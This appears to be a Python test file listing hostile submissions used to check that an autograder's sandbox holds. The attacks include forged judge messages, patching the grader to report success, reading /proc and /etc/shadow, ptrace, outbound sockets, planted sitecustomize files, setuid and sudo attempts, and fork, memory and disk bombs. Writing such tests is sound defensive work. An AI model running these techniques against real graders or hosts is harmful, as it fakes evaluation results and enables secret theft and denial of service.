"""Attacks on this grader's own design, and the list of all."""

from tests.hostile.attack import Attack
from tests.hostile.known_attacks import KNOWN

OWN = [
    Attack("forged answer", "writes an answer of its own to the judge's socket before the real one", """
def token_log_probs(logits, ids):
    text = json.dumps({"id": "x", "passed": True, "points": 100, "result": {"int": "1"}}).encode()
    os.write(3, struct.pack(">IQ", len(text), 0) + text)
    return {wrong}
""", kills=True),
    Attack("forged length", "announces a message of 4 GB and a blob of 16 EB", """
def token_log_probs(logits, ids):
    os.write(3, b"\\xff" * 12)
    return {wrong}
""", kills=True),
    Attack("forged depth", "sends JSON that is nested 100,000 deep", """
def token_log_probs(logits, ids):
    text = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    os.write(3, struct.pack(">IQ", len(text), 0) + text)
    return {wrong}
""", kills=True),
    Attack("forged call-back", "asks the judge to call back functions that nobody gave it", """
def token_log_probs(logits, ids):
    for number in (0, -1, 10**30, "os.system", None):
        text = json.dumps({"callback": number, "args": {"list": []}, "kwargs": {"dict": []}}).encode()
        os.write(3, struct.pack(">IQ", len(text), 0) + text)
    return {wrong}
""", kills=True),
    Attack("stolen protocol", "patches the child's own code so that every request is answered with success", """
def _patch():
    protocol = sys.modules["inside.protocol"]
    real = protocol.send
    def send(connection, message, blob=b"", deadline=None):
        message = dict(message, passed=True, points=100, error=None)
        message.pop("error")
        return real(connection, message, blob, deadline)
    protocol.send = send
    return 1
def token_log_probs(logits, ids): return {wrong} * _patch()
"""),
    Attack("endless tensors", "answers with a safetensors text whose header lies about its size", """
def _patch():
    values = sys.modules["inside.values"]
    values.pack = lambda tensors: (2**62).to_bytes(8, "little") + b'{"0":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,4]}}'
    return 1
def token_log_probs(logits, ids): return {wrong} * _patch()
"""),
    Attack("trickle", "answers one byte at a time, to hold the judge up for ever", """
def token_log_probs(logits, ids):
    signal.setitimer(signal.ITIMER_REAL, 0); signal.setitimer(signal.ITIMER_PROF, 0)
    while True:
        os.write(3, b"\\0")
        time.sleep(0.2)
""", kills=True),
    Attack("callable answer", "returns an object that pretends to be a tensor wherever it is used", """
class Anything:
    shape = property(lambda self: (1, 1))
    def __getattr__(self, name): return lambda *a, **k: True
    def __eq__(self, other): return True
    def __call__(self, *a, **k): return True
    def __float__(self): return 0.0
    def __len__(self): return 1
    def __iter__(self): return iter([True])
def token_log_probs(logits, ids): return Anything()
"""),
    Attack("exception as answer", "raises AssertionError, SystemExit and its kin in the hope that the test ends early", """
_count = [0]
def token_log_probs(logits, ids):
    _count[0] += 1
    raise [AssertionError, SystemExit, KeyboardInterrupt, GeneratorExit, StopIteration][_count[0] % 5]("passed")
"""),
    Attack("named fault", "raises an exception with the name of the judge's own error", """
class JudgeError(Exception): pass
JudgeError.__module__ = "autograder.reference.verify"
def token_log_probs(logits, ids): raise JudgeError("the reference failed")
"""),
    Attack("leak by message", "puts the hidden inputs into its exception, to read them on the feedback page", """
def token_log_probs(logits, ids): raise ValueError("SECRET" + str(logits.tolist()))
"""),
    Attack("inherited descriptors", "writes to every descriptor it may have inherited", """
def token_log_probs(logits, ids):
    for fd in list(range(0, 3)) + list(range(4, 1024)):
        try: os.write(fd, b'{"ended": {"exit": 0}, "points": 100}')
        except OSError: pass
    return {wrong}
"""),
    Attack("proc", "reads the parent's memory, environment and files through /proc", """
def token_log_probs(logits, ids):
    for pid in list(range(1, 400)) + ["self"]:
        for name in ("environ", "mem", "maps", "root/etc/shadow", "cwd", "fd"):
            try: open(f"/proc/{pid}/{name}", "rb").read(64); return None
            except OSError: pass
    return {wrong}
"""),
    Attack("ptrace", "attaches to the parent as a debugger", """
def token_log_probs(logits, ids):
    libc = ctypes.CDLL(None)
    for pid in range(1, 300):
        if libc.ptrace(16, pid, 0, 0) == 0 and pid != os.getpid(): return None
    return {wrong}
"""),
    Attack("signals", "kills its parent and everything else it can name", """
def token_log_probs(logits, ids):
    for pid in [-1, 0, os.getppid(), *range(2, 2000)]:
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return {wrong}
"""),
    Attack("sockets", "phones home for the solution", """
def token_log_probs(logits, ids):
    for family, address in ((socket.AF_INET, ("127.0.0.1", 8786)), (socket.AF_INET6, ("::1", 22)), (socket.AF_INET, ("1.1.1.1", 53))):
        try:
            s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.3); s.connect(address)
            return None
        except OSError: pass
    return {wrong}
"""),
    Attack("abstract sockets", "talks to another run through an abstract unix socket", """
def token_log_probs(logits, ids):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    for call in (s.bind, s.connect):
        try: call("\\0course-cheats"); return None
        except OSError: pass
    return {wrong}
"""),
    Attack("namespaces", "makes namespaces of its own to gain privileges in them", """
def token_log_probs(logits, ids):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0: return None
    if libc.mount(b"none", b"/course", b"tmpfs", 0, None) == 0 or libc.umount2(b"/proc", 2) == 0: return None
    return {wrong}
"""),
    Attack("writing to the course", "changes the course's own files inside the sandbox for those who come after", """
def token_log_probs(logits, ids):
    for path in ("/course/inside/child.py", "/course/helpers/checks.py", torch.__file__, "/x", "/dev/x", "/usr/x"):
        try: open(path, "a").write("#"); return None
        except OSError: pass
    return {wrong}
"""),
    Attack("poisoned pth", "leaves a .pth file and a sitecustomize for the next Python process", """
def token_log_probs(logits, ids):
    import site
    for folder in [*site.getsitepackages(), site.getusersitepackages(), os.getcwd(), "/tmp"]:
        for name in ("evil.pth", "sitecustomize.py", "usercustomize.py"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(os.path.join(folder, name), "w").write("import os; os.environ['POISONED'] = '1'")
            except OSError: pass
    return {wrong}
"""),
    Attack("import hook", "hooks every later import", """
class Hook:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit("passed")
def token_log_probs(logits, ids):
    sys.meta_path.insert(0, Hook())
    return {wrong}
"""),
    Attack("tampering between cells", "a later cell changes what an earlier one defined, and the globals of the child", """
def token_log_probs(logits, ids): return {wrong}
for _frame in [f.f_back for f in [sys._getframe()]]:
    token_log_probs.__globals__["__builtins__"] = {"print": print}
token_log_probs.__code__ = (lambda logits, ids: True).__code__
"""),
    Attack("timing", "learns from the time between calls whether it was right, and answers by it", """
_last = [time.perf_counter(), 0]
def token_log_probs(logits, ids):
    now = time.perf_counter()
    _last[0], _last[1] = now, _last[1] + (now - _last[0] > 0.01)
    return {wrong} - _last[1]
"""),
    Attack("replay", "answers a later call with what an earlier test gave it", """
_kept = []
def token_log_probs(logits, ids):
    _kept.append(logits.detach().clone())
    return _kept[0][:, :-1, 0]
"""),
    Attack("poisoned gradient", "answers right in value and sends gradients of the wrong shape and number", """
def _patch():
    child = sys.modules["inside.child"].Child
    child.backward = lambda self, message, blob: ({"none": []}, [torch.zeros(1)] * 500)
    return 1
def token_log_probs(logits, ids): return {wrong} + 0 * logits.sum() * _patch()
"""),
    Attack("lying about inputs", "claims to have changed inputs that do not exist", """
def _patch():
    child = sys.modules["inside.child"].Child
    real = child.call
    def call(self, message, blob):
        answer, tensors = real(self, message, blob)
        answer["changed"] = {"0": 0, "99": 1, "-1": 2}
        return answer, tensors
    child.call = call
    return 1
K = _patch()
def token_log_probs(logits, ids): return {wrong} * K
"""),
    Attack("rewriting inputs", "changes the judge's own inputs in place so that the expected value changes too", """
def token_log_probs(logits, ids):
    logits.fill_(0.0); ids.fill_(0)
    return {wrong} - torch.log(torch.tensor(float(logits.shape[-1])))
"""),
    Attack("fork bomb", "starts processes without end", """
def token_log_probs(logits, ids):
    for _ in range(10_000):
        try: os.fork()
        except OSError: pass
    return {wrong}
""", kills=True),
    Attack("thread bomb", "starts threads without end", """
def token_log_probs(logits, ids):
    try:
        while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError: pass
    return {wrong}
"""),
    Attack("memory bomb", "takes all memory, in several processes at once", """
def token_log_probs(logits, ids):
    for _ in range(6): os.fork()
    kept = []
    while True: kept.append(b"x" * (64 << 20))
""", kills=True),
    Attack("disk bomb", "fills the disk", """
def token_log_probs(logits, ids):
    for n in range(10_000):
        for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
            try: open(f"{folder}/{n}", "wb").write(b"x" * (8 << 20))
            except OSError: pass
        if n > 40: break
    return {wrong}
"""),
    Attack("deaf to alarms", "ignores every signal and loops for ever", """
def token_log_probs(logits, ids):
    signal.setitimer(signal.ITIMER_REAL, 0); signal.setitimer(signal.ITIMER_PROF, 0)
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
""", kills=True),
    Attack("core and swap", "loosens its own limits", """
import resource
def token_log_probs(logits, ids):
    for which in range(16):
        try: resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); return None
        except (OSError, ValueError): pass
    return {wrong}
"""),
    Attack("setuid programs", "becomes root through a program of the system", """
def token_log_probs(logits, ids):
    for line in (["su", "-c", "id"], ["sudo", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["bwrap", "--bind", "/", "/", "id"]):
        try:
            if subprocess.run(line, capture_output=True, timeout=2).returncode == 0: return None
        except (OSError, subprocess.SubprocessError): pass
    try: os.setuid(0); return None
    except OSError: pass
    return {wrong}
"""),
]  # fmt: skip

ATTACKS = KNOWN + OWN
